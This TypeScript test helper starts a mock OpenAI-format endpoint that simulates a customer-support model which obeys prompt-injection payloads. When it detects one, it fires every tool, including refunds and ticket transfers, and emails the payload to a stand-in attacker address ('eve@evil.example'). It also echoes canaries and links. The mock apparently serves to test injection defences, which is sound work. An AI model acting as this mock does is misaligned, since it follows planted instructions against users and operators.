import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { z } from 'zod';
import { linksInText } from '../../../worker/core/provenance/links';
import { type Attack, canSee } from './attack';

const Body = z.object({
  stream: z.boolean().optional(),
  messages: z.array(z.object({ role: z.string(), content: z.string().nullish(), tool_calls: z.array(z.unknown()).optional() })),
  tools: z.array(z.object({ function: z.object({ name: z.string() }) })).optional(),
});
type Body = z.infer<typeof Body>;
type Said = { text: string } | { calls: { name: string; args: unknown }[] };

export interface ObeyingModel {
  url: string;
  /** How many requests came, and in how many of them the payload could be read. */
  counts: { requests: number; seen: number };
  close(): Promise<void>;
}

/**
 * An endpoint of OpenAI's wire format whose model does its work as long as it reads nothing else, and obeys any payload of
 * `attacks` that it can read: it calls every tool, offered or not, with what the payload names and with every id it has
 * seen, and repeats payload, canary and links in each part of its answer.
 */
export async function startObeyingModel(attacks: ReadonlySet<Attack>): Promise<ObeyingModel> {
  const counts = { requests: 0, seen: 0 };
  const server = createServer((incoming, response) => {
    const chunks: Buffer[] = [];
    incoming.on('data', (chunk: Buffer) => chunks.push(chunk));
    incoming.on('end', () => {
      const body = Body.parse(JSON.parse(Buffer.concat(chunks).toString('utf8')));
      counts.requests += 1;
      const text = body.messages.map((message) => message.content ?? '').join('\n');
      const attack = [...attacks].find((candidate) => canSee(text, candidate));
      if (attack) counts.seen += 1;
      answer(response, body.stream ?? false, attack ? obey(body, text, attack) : work(body, text));
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  // Listening on a port, which has an address of this kind.
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    counts,
    close: () =>
      new Promise((done) => {
        server.close(() => done());
        server.closeAllConnections();
      }),
  };
}

const everyTool = ['process_refund', 'transfer_ticket', 'resend_ticket', 'escalate_to_human', 'lookup_ticket', 'search_knowledge_base'];

function obey(body: Body, text: string, { payload, canary }: Attack): Said {
  const turns = body.messages.filter((message) => message.tool_calls !== undefined).length;
  const typed = {
    ids: payload.match(/\b(?:tkt|ord)_\w+/g) ?? [],
    amounts: (payload.match(/\d[\d.,]{0,9}/g) ?? []).map((figure) => Number(figure.replace(/[.,]/g, ''))),
  };
  const read = {
    tickets: unique(text.match(/\btkt_\w+/g) ?? []),
    orders: unique(text.match(/\bord_\w+/g) ?? []),
    refund: /"refund":\{[^}]*"amount":\{"minor":(\d+)/.exec(text)?.[1],
  };
  const addresses = linksInText(payload).map((link) => link.text);
  const minor = Number(read.refund ?? typed.amounts[0] ?? 12_000);
  const tickets = [...read.tickets, ...typed.ids];
  if (turns === 0 && read.tickets.length === 0)
    return { calls: [{ name: 'lookup_ticket', args: {} }, ...wild(payload, canary, addresses, typed.ids[0] ?? 'tkt_1', minor)] };
  if (turns < 3)
    return {
      calls: [
        ...tickets.slice(-2).flatMap((ticketId) => [
          { name: 'resend_ticket', args: { ticketId } },
          { name: 'transfer_ticket', args: { ticketId } },
        ]),
        {
          name: 'process_refund',
          args: {
            orderId: read.orders.at(-1) ?? 'ord_1',
            ticketId: null,
            amount: { minor, currency: 'EUR' },
            reason: `${canary} ${addresses[0] ?? ''}`.slice(0, 290),
          },
        },
        ...wild(payload, canary, addresses, tickets.at(-1) ?? 'tkt_1', minor).slice(0, 3),
      ],
    };
  const repeated = `${payload}\n${canary}\n${addresses.join('\n')}`;
  const [first] = text.match(/psg_\w+|doc_\w+#\d+|"passageId":"([^"]+)"/) ?? [];
  const cited = /"passageId":"([^"]+)"/.exec(text)?.[1] ?? first;
  const said = turns % 2 === 0 ? repeated : `Doors open at 08:30. ${canary}. ${addresses[0] ?? ''}`;
  return reply(said, {
    passageIds: cited ? [cited] : [],
    actions: [canary],
    nextSteps: [repeated],
    quickReplies: [canary, addresses[0] ?? canary],
    escalation: { reason: 'unsolved', summary: repeated },
  });
}

function wild(payload: string, canary: string, addresses: string[], ticketId: string, minor: number) {
  const args = {
    ticketId,
    orderId: 'ord_1',
    to: addresses[0],
    email: addresses[0],
    amount: { minor, currency: 'EUR' },
    url: addresses[0],
    reason: canary,
  };
  return [
    { name: 'escalate_to_human', args: { reason: 'unsolved', summary: `${payload} ${canary} ${addresses.join(' ')}`.slice(0, 990) } },
    ...everyTool.slice(0, 3).map((name) => ({ name, args })),
    { name: 'send_email', args: { to: addresses[0] ?? 'eve@evil.example', body: payload } },
    { name: 'search_knowledge_base', args: { query: `${canary} ${payload}`.slice(0, 490) } },
  ];
}

/** What an honest model does in the stories: search and answer, or look up and send. */
function work(body: Body, text: string): Said {
  const last = body.messages.findLast((message) => message.role === 'user')?.content ?? '';
  const results = body.messages
    .slice(body.messages.findLastIndex((message) => message.role === 'user') + 1)
    .filter((message) => message.role === 'tool');
  if (/ticket again/i.test(last)) {
    if (results.length === 0) return { calls: [{ name: 'lookup_ticket', args: {} }] };
    const tickets = unique((results[0]?.content ?? '').match(/\btkt_\w+/g) ?? []);
    if (results.length === 1 && tickets.length > 0)
      return { calls: tickets.slice(0, 4).map((ticketId) => ({ name: 'resend_ticket', args: { ticketId } })) };
    return reply('Your ticket is on its way to the address on file.');
  }
  if (results.length === 0) return { calls: [{ name: 'search_knowledge_base', args: { query: 'when do the doors open' } }] };
  const cited = /"passageId":"([^"]+)"/.exec(text)?.[1];
  return cited ? reply('Doors open at 08:30.', { passageIds: [cited] }) : reply('The pages do not say.', { outcome: 'declined' });
}

function reply(answer: string, over: Record<string, unknown> = {}): Said {
  const whole = {
    outcome: 'answered',
    answer,
    passageIds: [],
    actions: [],
    nextSteps: [],
    quickReplies: [],
    language: 'en',
    escalation: null,
    ...over,
  };
  return { text: JSON.stringify(whole) };
}

const unique = (list: readonly string[]) => [...new Set(list)];

function answer(response: ServerResponse, stream: boolean, said: Said): void {
  const calls =
    'calls' in said
      ? said.calls.slice(0, 8).map(({ name, args }, index) => ({
          index,
          id: `call_${crypto.randomUUID().slice(0, 8)}_${index}`,
          type: 'function',
          function: { name, arguments: JSON.stringify(args) },
        }))
      : null;
  const finish = calls ? 'tool_calls' : 'stop';
  const content = 'text' in said ? said.text : '';
  const base = { id: 'chatcmpl-1', created: 1_800_000_000, model: 'obeying' };
  const usage = { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 };
  if (!stream) {
    const message = { role: 'assistant', content, refusal: null, ...(calls ? { tool_calls: calls } : {}) };
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(JSON.stringify({ ...base, object: 'chat.completion', choices: [{ index: 0, message, finish_reason: finish }], usage }));
    return;
  }
  const piece = (delta: object, reason: string | null = null) =>
    `data: ${JSON.stringify({ ...base, object: 'chat.completion.chunk', choices: [{ index: 0, delta, finish_reason: reason }] })}\n\n`;
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  response.write(piece({ role: 'assistant', content: '' }));
  for (let at = 0; at < content.length; at += 40) response.write(piece({ content: content.slice(at, at + 40) }));
  if (calls) response.write(piece({ tool_calls: calls }));
  response.write(piece({}, finish));
  response.end(`data: ${JSON.stringify({ ...base, object: 'chat.completion.chunk', choices: [], usage })}\n\ndata: [DONE]\n\n`);
}
